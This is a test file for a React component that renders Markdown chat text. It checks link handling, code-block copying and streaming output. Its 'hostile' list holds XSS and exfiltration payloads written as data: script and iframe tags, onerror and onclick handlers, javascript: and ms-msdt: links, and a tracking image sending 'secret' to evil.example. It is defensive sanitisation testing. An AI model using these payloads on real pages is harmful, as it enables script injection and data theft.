import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeEach, describe, expect, it, vi } from "vitest";

const openExternal = vi.fn(async () => true);
vi.mock("../../platform/client.ts", () => ({ client: { app: { openExternal } }, inBrowser: false }));
const { TextPart } = await import("./TextPart.tsx");

const hostile = [
  "<script>window.hacked = true</script>",
  '<img src=x onerror="window.hacked = true">',
  "![track](https://evil.example/?q=secret)",
  "![inline](data:image/svg+xml;base64,PHN2Zz4=)",
  "[click](javascript:alert(1))",
  "[share](smb://evil.example/x)",
  "[diag](ms-msdt:/id)",
  "<iframe src='https://evil.example'></iframe>",
  "<style>body{display:none}</style>",
  '<a href="https://evil.example" onclick="window.hacked=true">x</a>',
];

describe("TextPart", () => {
  beforeEach(() => openExternal.mockClear());

  it.each(hostile)("renders %s without an element that loads, runs or restyles", (text) => {
    const { container } = render(<TextPart text={`before\n\n${text}\n\nafter`} streaming={false} />);
    expect(container.querySelectorAll("script, img, iframe, style, object, embed, form, link, a")).toHaveLength(0);
    expect(container.querySelectorAll("[onclick], [onerror], [href], [src]")).toHaveLength(0);
    expect(container.textContent).toContain("after");
    expect("hacked" in window).toBe(false);
  });

  it("shows raw HTML as the text it is", () => {
    const { container } = render(<TextPart text="a <b>bold</b> claim" streaming={false} />);
    expect(container.textContent).toContain("<b>bold</b>");
  });

  it("sends a click on a link through the one opener", async () => {
    render(<TextPart text="[site](https://example.org/a?b=1)" streaming={false} />);
    await userEvent.click(screen.getByRole("button", { name: "site" }));
    expect(openExternal).toHaveBeenCalledExactlyOnceWith({ url: "https://example.org/a?b=1" });
  });

  it("offers to copy a code block and keeps its text exact", () => {
    const { container } = render(<TextPart text={"```ts\nconst a = 1 < 2;\n```"} streaming={false} />);
    expect(screen.getByRole("button", { name: "Copy code" })).toBeDefined();
    expect(container.querySelector("pre code")?.textContent).toBe("const a = 1 < 2;");
  });

  it("renders an unfinished fence and table while they stream", () => {
    const { container } = render(<TextPart text={"| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nprint("} streaming />);
    expect(container.querySelectorAll("td")).toHaveLength(2);
    expect(container.querySelector("pre")?.textContent).toContain("print(");
  });

  it("draws what is finished of a long answer once, and nothing anew at its end", () => {
    const paragraph = `${"the fox went over the hill ".repeat(90)}end.\n\n`;
    const { container, rerender } = render(<TextPart text={paragraph} streaming />);
    rerender(<TextPart text={paragraph.repeat(2) + paragraph.slice(0, 40)} streaming />);
    const drawn = [...container.querySelectorAll("p")];
    expect(drawn).toHaveLength(3);
    rerender(<TextPart text={`${paragraph.repeat(3)}**last`} streaming />);
    expect(container.querySelector("strong, [data-streamdown=strong]")?.textContent).toBe("last");
    rerender(<TextPart text={`${paragraph.repeat(3)}**last`} streaming={false} />);
    const all = [...container.querySelectorAll("p")];
    expect(all.slice(0, 2).map((element, index) => element === drawn[index])).toEqual([true, true]);
    expect(all.at(-1)?.textContent).toBe("**last");
  });
});
